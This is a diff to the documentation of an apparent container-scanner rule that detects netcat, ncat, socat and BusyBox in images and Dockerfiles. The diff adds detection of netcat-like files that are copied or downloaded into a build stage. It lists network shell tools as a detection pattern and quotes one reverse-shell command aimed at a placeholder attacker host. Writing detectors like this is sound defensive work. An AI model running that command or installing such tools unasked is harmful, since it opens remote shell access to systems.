@@ -24,7 +24,7 @@ Severity: high for a netcat, ncat or socat binary; medium for a BusyBox
 added by the image's own layers; low for a BusyBox inherited from the base
 image (nearly every Alpine and BusyBox image has one).
 
-In Dockerfiles: a `RUN` that installs one with a package manager (`apt-get`/`apt install netcat-traditional` or `netcat`, `apk add` or `dnf`/`yum`/`microdnf install` of `ncat`, `nmap-ncat`, `nmap`, `socat`, `busybox-extras`), reported at the package name, in every stage the image is built from.
+In Dockerfiles: a `RUN` that installs one with a package manager (`apt-get`/`apt install netcat-traditional` or `netcat`, `apk add` or `dnf`/`yum`/`microdnf install` of `ncat`, `nmap-ncat`, `nmap`, `socat`, `busybox-extras`), reported at the package name, in every stage the image is built from. A file named like a netcat (`nc`, `netcat`, `ncat`, `socat`, `nc.traditional`) copied (`COPY`, `ADD`) or downloaded (`curl -o`, `wget -O`) into an image stage is reported at medium: its contents are not known before the build.
 
 ## Why it matters
 `nc -e /bin/sh attacker 4444` is a reverse shell in one command. This is
